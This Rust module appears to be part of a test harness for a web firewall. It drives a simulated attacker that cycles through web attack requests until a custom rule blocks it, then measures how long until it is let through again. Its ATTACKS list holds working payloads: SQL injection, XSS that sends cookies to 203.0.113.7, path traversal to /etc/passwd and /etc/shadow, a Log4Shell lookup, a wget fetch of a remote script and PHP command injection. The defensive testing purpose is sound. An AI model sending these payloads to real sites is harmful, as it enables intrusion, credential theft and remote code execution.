//! The attacker: attacks until a custom rule refuses it, then knocks with a harmless page until it is let in again.

use super::{
    browser::{Browser, Errand, Outcome},
    worker::{Inside, Worker},
};
use connectors::egress::EgressError;
use serde::Serialize;
use std::{
    net::{IpAddr, Ipv4Addr, SocketAddr},
    time::{Duration, Instant},
};

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36";
const SQLMAP: &str = "sqlmap/1.8.11#stable (https://sqlmap.org)";

const fn get(target: &'static str, user_agent: &'static str) -> Errand {
    Errand {
        method: "GET",
        target,
        body: "",
        user_agent,
    }
}

const fn post(target: &'static str, body: &'static str) -> Errand {
    Errand {
        method: "POST",
        target,
        body,
        user_agent: BROWSER,
    }
}

/// What it sends, in this order, again and again: looking round with a scanner, then several ways in.
const ATTACKS: [Errand; 14] = [
    get("/product?id=1", SQLMAP),
    get("/product?id=1%27%20AND%20%271%27=%271", SQLMAP),
    get(
        "/product?id=1%20UNION%20ALL%20SELECT%201,username,password%20FROM%20users--%20-",
        SQLMAP,
    ),
    get("/product?id=1%27;SELECT%20SLEEP(5)--", SQLMAP),
    get(
        "/product?id=1%20and%20extractvalue(1,concat(0x7e,version()))",
        BROWSER,
    ),
    post("/login", "user=admin%27+or+%271%27%3D%271&password=x"),
    get(
        "/search?q=%3Cscript%3Efetch(%27//203.0.113.7/%27%2Bdocument.cookie)%3C/script%3E",
        BROWSER,
    ),
    get("/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", BROWSER),
    get("/product?file=..%2f..%2f..%2f..%2fetc%2fpasswd", BROWSER),
    get(
        "/product?page=php://filter/convert.base64-encode/resource=config",
        BROWSER,
    ),
    get("/product?host=127.0.0.1;cat%20/etc/shadow", BROWSER),
    get("/search?q=$%7Bjndi:ldap://203.0.113.7/a%7D", BROWSER),
    get("/product?cmd=$(wget%20http://203.0.113.7/s.sh)", BROWSER),
    post("/login", "user=%3C?php%20system(%27id%27);%3F%3E&password=x"),
];

/// The page it knocks with.
const CLEAN: Errand = get("/about", BROWSER);

/// How the attack goes.
#[derive(Clone, Copy, Debug)]
pub struct AttackPlan {
    /// The web site.
    pub site: SocketAddr,
    /// The attacker's address.
    pub client: IpAddr,
    /// Between two requests.
    pub pause: Duration,
    /// Requests at most.
    pub requests: u64,
    /// Time at most.
    pub limit: Duration,
}

impl AttackPlan {
    /// A brisk attack from 203.0.113.7 for up to five minutes.
    pub fn on(site: SocketAddr) -> Self {
        Self {
            site,
            client: IpAddr::V4(Ipv4Addr::new(203, 0, 113, 7)),
            pause: Duration::from_millis(100),
            requests: 10_000,
            limit: Duration::from_mins(5),
        }
    }
}

/// How far the attack is. Durations count from the first attack request.
#[derive(Clone, Debug, Default, Serialize)]
pub struct AttackProgress {
    /// When the first attack request left.
    #[serde(skip)]
    pub started: Option<Instant>,
    /// Requests made.
    pub requests: u64,
    /// Refused by basic protection.
    pub refused_by_signature: u64,
    /// Refused by a custom rule.
    pub refused_by_rule: u64,
    /// Let through.
    pub passed: u64,
    /// Not answered.
    pub failed: u64,
    /// The first refusal by a custom rule.
    pub blocked: Option<Duration>,
    /// The first harmless page it got after that; the attacker's work ends here.
    pub unblocked: Option<Duration>,
}

/// A running attacker.
#[derive(Debug)]
pub struct Attacker(Worker<AttackProgress>);

impl Attacker {
    /// Sets it off.
    pub fn start(plan: AttackPlan) -> Result<Self, EgressError> {
        let browser = Browser::new(plan.site)?;
        Ok(Self(Worker::start(plan.limit, move |inside| {
            attack(plan, browser, inside)
        })))
    }

    /// How far it is.
    pub fn progress(&self) -> AttackProgress {
        self.0.progress()
    }

    /// Waits until basic protection has refused so many of its requests.
    pub async fn refused(&self, requests: u64, within: Duration) -> Option<AttackProgress> {
        self.0
            .until(within, |progress| progress.refused_by_signature >= requests)
            .await
    }

    /// Waits until a custom rule has refused it: how long after its first request that was.
    pub async fn blocked(&self, within: Duration) -> Option<Duration> {
        self.0
            .until(within, |progress| progress.blocked.is_some())
            .await?
            .blocked
    }

    /// Waits until it has got through again after a block.
    pub async fn unblocked(&self, within: Duration) -> Option<Duration> {
        self.0
            .until(within, |progress| progress.unblocked.is_some())
            .await?
            .unblocked
    }

    /// Pauses it, or lets it go on.
    pub fn pause(&self, pause: bool) {
        self.0.pause(pause);
    }

    /// Stops it.
    pub async fn stop(self) -> AttackProgress {
        self.0.stop().await
    }
}

async fn attack(plan: AttackPlan, browser: Browser, mut inside: Inside<AttackProgress>) {
    let started = Instant::now();
    inside.report(|progress| progress.started = Some(started));
    let mut attacks = ATTACKS.iter().cycle();
    let mut blocked = false;
    for _ in 0..plan.requests {
        let errand = if blocked { Some(&CLEAN) } else { attacks.next() };
        let Some(errand) = errand else { break };
        let outcome = browser.go(plan.client, *errand).await;
        let at = started.elapsed();
        inside.report(|progress| count(progress, &outcome, blocked, at));
        if blocked && outcome == Outcome::Passed(200) {
            return;
        }
        blocked |= outcome == Outcome::RefusedByRule;
        if !inside.may_go_on(plan.pause).await {
            return;
        }
    }
}

fn count(progress: &mut AttackProgress, outcome: &Outcome, was_blocked: bool, at: Duration) {
    progress.requests += 1;
    match outcome {
        Outcome::RefusedByRule => {
            progress.refused_by_rule += 1;
            progress.blocked.get_or_insert(at);
        }
        Outcome::RefusedBySignature => progress.refused_by_signature += 1,
        Outcome::Passed(status) => {
            progress.passed += 1;
            if was_blocked && *status == 200 {
                progress.unblocked.get_or_insert(at);
            }
        }
        Outcome::Failed => progress.failed += 1,
    }
}
